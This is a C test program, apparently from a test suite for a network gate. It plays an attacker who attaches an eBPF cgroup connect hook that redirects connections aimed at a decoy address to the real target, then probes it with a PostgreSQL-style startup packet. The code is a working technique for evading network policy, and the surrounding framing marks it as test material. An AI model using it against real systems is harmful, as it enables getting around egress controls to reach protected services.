/* A connect hook of the attacker's own, which changes where connects go: in a cgroup below his (name "bpf-child"), or
 * beside the gate's own programs (name "bpf-beside", in the cgroup the environment's BESIDE names). Needs CAP_BPF and
 * CAP_NET_ADMIN. Connects to a host that is nobody's target, and means the target. See common.py. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

static int failed(const char *what) {
    printf("%s: %s\nunsupported %s\n", what, strerrorname_np(errno), strerrorname_np(errno));
    return 1;
}

static int load(unsigned address, unsigned short port, unsigned harmless) {
    enum { IP = offsetof(struct bpf_sock_addr, user_ip4), PORT = offsetof(struct bpf_sock_addr, user_port) };
    struct bpf_insn program[] = {
        {.code = BPF_LDX | BPF_MEM | BPF_W, .dst_reg = 3, .src_reg = 1, .off = IP},
        {.code = BPF_ALU | BPF_MOV | BPF_K, .dst_reg = 4, .imm = harmless},
        {.code = BPF_JMP | BPF_JNE | BPF_X, .dst_reg = 3, .src_reg = 4, .off = 4},
        {.code = BPF_ALU | BPF_MOV | BPF_K, .dst_reg = 2, .imm = address},
        {.code = BPF_STX | BPF_MEM | BPF_W, .dst_reg = 1, .src_reg = 2, .off = IP},
        {.code = BPF_ALU | BPF_MOV | BPF_K, .dst_reg = 2, .imm = port},
        {.code = BPF_STX | BPF_MEM | BPF_W, .dst_reg = 1, .src_reg = 2, .off = PORT},
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1},
        {.code = BPF_JMP | BPF_EXIT},
    };
    union bpf_attr attributes = {
        .prog_type = BPF_PROG_TYPE_CGROUP_SOCK_ADDR,
        .expected_attach_type = BPF_CGROUP_INET4_CONNECT,
        .insns = (long)program,
        .insn_cnt = sizeof(program) / sizeof(*program),
        .license = (long)"GPL",
    };
    return syscall(SYS_bpf, BPF_PROG_LOAD, &attributes, sizeof(attributes));
}

int main(int count, char **arguments) {
    if (count < 6)
        return 2;
    prctl(PR_SET_NAME, arguments[1]);
    alarm(15 * SLOWNESS);
    const char *beside = getenv("BESIDE");
    char cgroup[4096];
    if (strcmp(arguments[1], "bpf-beside") || !beside) {
        char own[1024] = "";
        FILE *file = fopen("/proc/self/cgroup", "r");
        while (file && fgets(own, sizeof(own), file) && strncmp(own, "0::", 3))
            ;
        own[strcspn(own, "\n")] = 0;
        snprintf(cgroup, sizeof(cgroup), "%s%s/child-%d", getenv("CGROUP_MOUNT"), own + 3, getpid());
        if (mkdir(cgroup, 0755))
            return failed("mkdir");
        char procs[4200];
        snprintf(procs, sizeof(procs), "%s/cgroup.procs", cgroup);
        int into = open(procs, O_WRONLY);
        if (write(into, "0", 1) != 1)
            return failed("move");
    } else {
        snprintf(cgroup, sizeof(cgroup), "%s", beside);
    }
    struct sockaddr_in elsewhere = {.sin_family = AF_INET, .sin_port = htons(7)};
    /* Nobody's target. */
    inet_pton(AF_INET, "10.66.0.99", &elsewhere.sin_addr);
    int program = load(inet_addr(arguments[2]), htons(atoi(arguments[4])), elsewhere.sin_addr.s_addr);
    if (program < 0)
        return failed("load");
    union bpf_attr attach = {};
    attach.link_create.prog_fd = program;
    attach.link_create.target_fd = open(cgroup, O_RDONLY | O_DIRECTORY);
    attach.link_create.attach_type = BPF_CGROUP_INET4_CONNECT;
    int link = syscall(SYS_bpf, BPF_LINK_CREATE, &attach, sizeof(attach));
    if (link < 0)
        return failed("attach");
    struct timeval patience = {.tv_sec = 2 * SLOWNESS};
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
    setsockopt(sock, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
    if (connect(sock, (struct sockaddr *)&elsewhere, sizeof(elsewhere)))
        return printf("refused %s\n", errno == EINPROGRESS ? "by silence" : strerrorname_np(errno)) < 0;
    static const char startup[] = "\0\0\0\x20\0\3\0\0user\0plain\0database\0db\0";
    char answer[4096] = "";
    send(sock, startup, sizeof(startup), 0);
    ssize_t length = recv(sock, answer, sizeof(answer) - 1, 0);
    if (!strncmp(answer, "WITNESS", 7))
        puts("reached");
    else if (length <= 0)
        puts(length ? "silent" : "closed");
    else
        printf("answered %s %s\n", answer + 6, memmem(answer, length, "C28000", 7) ? "28000" : "?");
    return 0;
}
